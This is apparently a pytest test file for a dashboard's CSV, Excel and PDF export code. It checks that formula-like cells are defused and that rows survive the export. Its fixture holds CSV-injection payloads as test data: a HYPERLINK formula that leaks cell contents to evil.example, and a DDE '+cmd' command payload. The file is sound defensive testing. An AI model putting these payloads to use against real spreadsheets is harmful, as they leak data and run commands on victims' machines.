"""Table exports (CSV, Excel) and the PDF printer, on small frames checked by hand."""

import datetime as dt
import io

import openpyxl
import pandas as pd
import pypdf
import pytest

from socialdash import exports

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture()
def table():
    return pd.DataFrame({
        "Organization": ["Acme", HOSTILE, "+cmd|' /C calc'!A0", "@SUM(1)"],
        "Likes": [195, 450, 12, 0],
        "Engagement rate": [0.0572727, None, 0.03, 0.0],
        "Refreshed (UTC)": pd.to_datetime(["2026-01-14 12:00"] * 4, utc=True),
        "Departments": [("care", "pr"), (), ("legal",), ("care",)],
        "Posts": pd.array([5, None, 1, 0], dtype="Int64"),
    })


def test_csv_defuses_formulas_and_keeps_the_data(table):
    text = exports.csv_bytes(table).decode("utf-8")
    back = pd.read_csv(io.StringIO(text), keep_default_na=False)
    # cells a spreadsheet would run as formulas get an apostrophe (=, +, @); plain text does not
    assert back["Organization"].tolist() == ["Acme", "'" + HOSTILE, "'+cmd|' /C calc'!A0", "'@SUM(1)"]
    assert back["Likes"].tolist() == [195, 450, 12, 0]
    # a tuple of ids as comma-separated text; an aware time as its UTC wall-clock time
    assert back["Departments"].tolist() == ["care, pr", "", "legal", "care"]
    assert back["Refreshed (UTC)"].tolist() == ["2026-01-14 12:00:00"] * 4
    assert back["Posts"].tolist() == ["5", "", "1", "0"]


def test_excel_holds_the_same_rows_and_never_a_formula(table):
    data = exports.excel_bytes(table, "overview/side:by*side")
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    assert sheet.title == "overviewsidebyside"  # characters Excel refuses in a sheet name dropped
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Organization", "Likes", "Engagement rate", "Refreshed (UTC)", "Departments", "Posts")
    assert rows[1] == ("Acme", 195, pytest.approx(0.0572727), dt.datetime(2026, 1, 14, 12, 0), "care, pr", 5)
    assert rows[2][0] == HOSTILE and rows[2][2] is None and rows[2][5] is None
    # every text cell is a string cell: nothing from the public becomes a formula
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet["A3"].data_type == "s"
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    assert pd.read_excel(io.BytesIO(data))["Likes"].sum() == 195 + 450 + 12


def test_an_empty_table_still_makes_files():
    empty = pd.DataFrame(columns=["Goal", "Status"])
    assert exports.csv_bytes(empty).decode() == "Goal,Status\n"
    rows = list(openpyxl.load_workbook(io.BytesIO(exports.excel_bytes(empty))).active.iter_rows(values_only=True))
    assert rows == [("Goal", "Status")]


def test_pdf_is_printed_by_chromium():
    html = "<!doctype html><title>Brief</title><h1>Acme &amp; Co</h1><p>Audience 2,200</p>"
    pdf = exports.pdf_from_html(html)
    assert pdf.startswith(b"%PDF")
    text = pypdf.PdfReader(io.BytesIO(pdf)).pages[0].extract_text()
    assert "Acme & Co" in text and "Audience 2,200" in text


def test_without_chromium_the_pdf_says_why(monkeypatch):
    monkeypatch.setenv("CHROMIUM", "/nonexistent/chromium")
    assert exports.chromium_path() is None
    with pytest.raises(exports.PdfError, match="Chromium is not installed"):
        exports.pdf_from_html("<p>x</p>")
